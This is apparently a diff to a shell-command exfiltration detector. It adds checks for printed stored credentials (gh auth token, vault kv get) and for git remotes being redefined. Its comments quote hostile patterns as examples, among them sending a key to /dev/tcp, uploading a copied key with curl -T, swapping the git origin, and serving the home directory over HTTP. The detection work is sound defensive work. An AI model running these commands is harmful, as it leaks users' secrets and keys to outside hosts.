@@ -20,6 +20,7 @@ from multiplex.shell.detection._catalogue import (
     Finding,
 )
 from multiplex.shell.detection._command_checks import operands, short_flags
+from multiplex.shell.detection._printers import prints_credentials
 from multiplex.shell.detection.network._from_network import FROM_THE_NETWORK, runs_from_the_network
 from multiplex.shell.detection.network._remote_access import SERVERS, serves_remote_access
 from multiplex.shell.detection.network._uploads import (
@@ -27,6 +28,7 @@ from multiplex.shell.detection.network._uploads import (
     NETWORK_TOOLS,
     SIGNS_IN,
     UPLOADERS,
+    git_remote_redefined,
     token_elsewhere,
     uploads,
 )
@@ -137,11 +139,10 @@ _SECRET_EXPORTS = ("--export-secret", "--export-ssh-key")
 
 def _exports_secrets(cmd: SimpleCommand) -> bool:
     prog = cmd.program
-    if prog in ("gpg", "gpg2"):
-        return any(a.startswith(_SECRET_EXPORTS) for a in cmd.argv[1:])
-    return (prog in ("pass", "gopass") and operands(cmd.argv[1:])[:1] in (["show"], ["cat"])) or (
-        _dumps_environment(cmd)
-    )
+    if prog in ("gpg", "gpg2") and any(a.startswith(_SECRET_EXPORTS) for a in cmd.argv[1:]):
+        return True
+    # gh auth token, vault kv get, git credential fill …: a stored credential printed
+    return prints_credentials(prog, cmd.argv[1:]) or _dumps_environment(cmd)
 
 
 def _dumps_environment(cmd: SimpleCommand) -> bool:
@@ -270,6 +271,7 @@ def each_network(parsed: ParsedLine, place: Place) -> Iterator[Finding]:
     readers_of_secrets: bool | None = None  # looked for once a network tool reads a pipe
     dumped: set[str] = set()  # files a dump or a credential's copy wrote earlier on the line
     staged = False  # a credential (or its copy) git-added earlier on the line
+    removed: set[str] = set()  # git remotes removed or renamed earlier on the line
     judged: dict[int, tuple[int, bool]] = {}  # a repeated command once per state it met
     ordered, repeats = in_order(parsed)
     for cmd in ordered:  # curl -T /tmp/k x; cp KEY /tmp/k; curl -T /tmp/k x
@@ -307,6 +309,10 @@ def each_network(parsed: ParsedLine, place: Place) -> Iterator[Finding]:
             yield Finding(EXFILTRATION, evidence(cmd), cmd.text)
         if cmd.program in SIGNS_IN and token_elsewhere(cmd.program, cmd.argv[1:], cmd.assignments):
             yield Finding(EXFILTRATION, evidence(cmd), cmd.text)
+        elif cmd.program == "git" and git_remote_redefined(cmd.argv[1:], removed):
+            yield Finding(
+                EXFILTRATION, evidence(cmd), cmd.text
+            )  # git remote rm origin; … add origin
         if cmd.redirects and network_redirect(cmd) and _reads_secrets(cmd, place):
             yield Finding(EXFILTRATION, evidence(cmd), cmd.text)  # cat KEY > /dev/tcp/h/80
     for cmd, here in placed(parsed, place):  # cd ~ && python3 -m http.server
